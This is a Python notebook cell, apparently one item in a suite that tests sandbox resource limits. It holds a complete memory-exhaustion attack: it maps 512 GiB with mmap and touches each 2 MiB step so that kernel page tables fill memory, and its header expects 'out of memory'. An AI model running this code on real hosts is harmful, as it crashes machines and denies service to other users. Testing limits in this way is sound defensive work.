# /// attack
# does = "reads gigabytes of nothing, so that the kernel's tables of them fill the memory"
# wall = "limits"
# notebook = "out of memory"
# ///
# %%
import ctypes
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
size = 2**39
place = libc.mmap(None, size, 1, 0x4022, -1, 0)
libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(size), 15)
for step in range(0, size, 2**21):
    ctypes.c_char.from_address(place + step).value
